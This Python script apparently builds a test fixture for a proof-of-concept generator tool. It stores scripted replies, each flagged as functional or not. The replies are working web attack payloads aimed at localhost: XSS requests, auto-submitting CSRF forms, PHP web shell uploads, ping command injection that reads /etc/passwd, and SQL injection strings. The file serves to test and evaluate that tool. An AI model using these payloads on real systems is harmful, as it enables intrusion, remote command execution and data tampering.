"""Regenerates base_s1.json: three scripted replies per fixture record, keyed by prompt digest.

Usage: python3 make_base_s1.py <pocgen binary> <corpus dir>
"""
import json
import subprocess
import sys
from pathlib import Path

REPLIES = {
    "fig4": [
        ("```http\nGET http://localhost:8080/search_results.php?search=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\nHost: localhost:8080\n```", False),
        ("```http\nGET http://localhost:8080/search.php?mode=search&search=question%27%3E%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\nHost: localhost:8080\n```", True),
        ("```\nhttp://localhost:8080/search_results.php?search=\"><script>alert(1)</script>\n```", False),
    ],
    "fig14": [
        ("```html\n<html><body>\n<form action=\"http://localhost:8080/stat.ratings.php\" method=\"POST\">\n<input type=\"hidden\" name=\"action\" value=\"clear-statistics\">\n</form>\n<script>document.forms[0].submit();</script>\n</body></html>\n```", True),
        ("```html\n<html><body>\n<form action=\"http://localhost:8080/stat.ratings.php\" method=\"POST\">\n<input type=\"hidden\" name=\"action\" value=\"clear-statistics\">\n</form>\n<script>document.forms[0].submit();</script>\n</body></html>\n```", True),
        ("```html\n<html><body onload=\"document.forms[0].submit()\">\n<form action=\"http://localhost:8080/stat.ratings.php?action=clear-statistics\" method=\"POST\"></form>\n</body></html>\n```", True),
    ],
    "fig15": [
        ("```python\nimport requests\nfiles = {'filefile': ('shell.php', '<?php system($_GET[\"c\"]); ?>')}\nrequests.post('http://localhost:8080/admin.php?action=files', files=files)\n```", False),
        ("```python\nimport requests\nfiles = {'filefile': ('shell.phar', '<?php system($_GET[\"c\"]); ?>')}\nrequests.post('http://localhost:8080/admin.php?action=files', files=files)\n```", True),
        ("```bash\ncurl -F 'filefile=@shell.php5' 'http://localhost:8080/admin.php?action=files'\n```", False),
    ],
    "cmd-ping": [
        ("```bash\ncurl -d 'host=127.0.0.1|id' http://localhost:8080/ping.php\n```", True),
        ("```bash\ncurl -d 'host=127.0.0.1;id' http://localhost:8080/ping.php\n```", False),
        ("```bash\ncurl --data-urlencode 'host=127.0.0.1|cat /etc/passwd' http://localhost:8080/ping.php\n```", True),
    ],
    "sqli-user": [
        ("```http\nGET /user.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1\nHost: localhost:8080\n```", True),
        ("", False),
        ("Try requesting http://localhost:8080/user.php?id=1' UNION SELECT user(), version() -- - and compare the output.", True),
    ],
}


def main() -> None:
    binary, corpus = sys.argv[1], sys.argv[2]
    entries = []
    for rid in sorted(REPLIES):
        out = subprocess.run([binary, "prompts", rid, "--mode", "base-s1", "--corpus", corpus],
                             check=True, capture_output=True, text=True).stdout
        digest = json.loads(out)["digest"]
        for i, (text, functional) in enumerate(REPLIES[rid], start=1):
            entries.append({"digest": digest, "response": text, "functional": functional,
                            "note": f"{rid} trial {i}"})
    doc = {"mode": "digest", "entries": entries}
    Path(__file__).with_name("base_s1.json").write_text(json.dumps(doc, indent=2) + "\n")


if __name__ == "__main__":
    main()
